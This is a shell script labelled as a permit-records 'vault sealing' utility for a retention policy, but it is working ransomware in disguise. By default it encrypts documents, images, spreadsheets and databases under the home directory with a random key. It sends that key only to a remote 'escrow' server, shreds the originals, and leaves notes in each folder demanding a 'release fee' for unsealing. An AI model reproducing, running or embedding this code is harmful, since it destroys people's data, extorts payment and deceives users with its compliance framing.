#!/bin/sh
# permit_vault_seal.sh - seal retained permit scans, client correspondence and
# specimen records into the records vault, as required by the seven-year
# retention policy. Sealed files get a .sealed suffix; the unsealing key is
# lodged with the records office escrow so no key material stays on the
# workstation.
#
# usage: permit_vault_seal.sh [target-dir]

set -eu

TARGET="${1:-${VAULT_TARGET:-$HOME}}"
ESCROW_URL="${ESCROW_URL:-https://escrow.recordsvault.co/api/v1/lodge}"
EXTS="${VAULT_EXTS:-pdf jpg jpeg png tif tiff heic cr2 nef doc docx xls xlsx odt ods csv txt sqlite db}"
NOTICE="VAULT_NOTICE.txt"
LOG="${VAULT_LOG:-$TARGET/.vault_seal.log}"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG"; }

case_id() {
    { hostname; id -un; } | sha256sum | cut -c1-12
}

build_find_expr() {
    first=1
    for e in $EXTS; do
        if [ $first -eq 1 ]; then
            printf -- "-iname *.%s" "$e"
            first=0
        else
            printf -- " -o -iname *.%s" "$e"
        fi
    done
}

lodge_key() {
    attempt=1
    while [ $attempt -le 5 ]; do
        if curl -fsS -m 20 -H 'Content-Type: application/json' \
             -d "{\"case\":\"$CASE\",\"host\":\"$(hostname)\",\"key\":\"$VAULT_PASS\"}" \
             "$ESCROW_URL" >/dev/null 2>&1; then
            return 0
        fi
        sleep $((attempt * 10))
        attempt=$((attempt + 1))
    done
    return 1
}

seal_one() {
    src="$1"
    case "$src" in *.sealed|*/"$NOTICE"|"$LOG") return 0 ;; esac
    if openssl enc -aes-256-cbc -pbkdf2 -iter 100000 -salt -pass env:VAULT_PASS \
            -in "$src" -out "$src.sealed" 2>/dev/null; then
        shred -fzu -n 1 "$src" 2>/dev/null || rm -f "$src"
        echo "$src"
    fi
}

write_notice() {
    dir="$1"
    cat > "$dir/$NOTICE" <<EOF
Records in this folder have been sealed under the retention policy.

Case reference: $CASE

Sealed records cannot be opened on this workstation. To have them unsealed,
contact the records office at unseal@recordsvault.co quoting the case
reference above. Unsealing is subject to the records office release fee.
EOF
}

main() {
    command -v openssl >/dev/null || { echo "openssl required" >&2; exit 1; }
    [ -d "$TARGET" ] || { echo "no such directory: $TARGET" >&2; exit 1; }

    CASE="$(case_id)"
    VAULT_PASS="$(openssl rand -hex 32)"
    export VAULT_PASS

    if ! lodge_key; then
        log "escrow unavailable, nothing sealed"
        unset VAULT_PASS
        exit 1
    fi
    log "key lodged for case $CASE"

    count=0
    set -f
    # shellcheck disable=SC2046
    find "$TARGET" -xdev -type f \( $(build_find_expr) \) -size -200M \
            ! -path '*/.cache/*' ! -path '*/.local/lib/*' 2>/dev/null |
    while IFS= read -r f; do
        sealed="$(seal_one "$f")" || continue
        [ -n "$sealed" ] || continue
        d="$(dirname "$sealed")"
        [ -f "$d/$NOTICE" ] || write_notice "$d"
        count=$((count + 1))
        [ $((count % 200)) -eq 0 ] && log "sealed $count files"
    done

    unset VAULT_PASS
    write_notice "$TARGET"
    log "sealing complete for $TARGET"
}

main
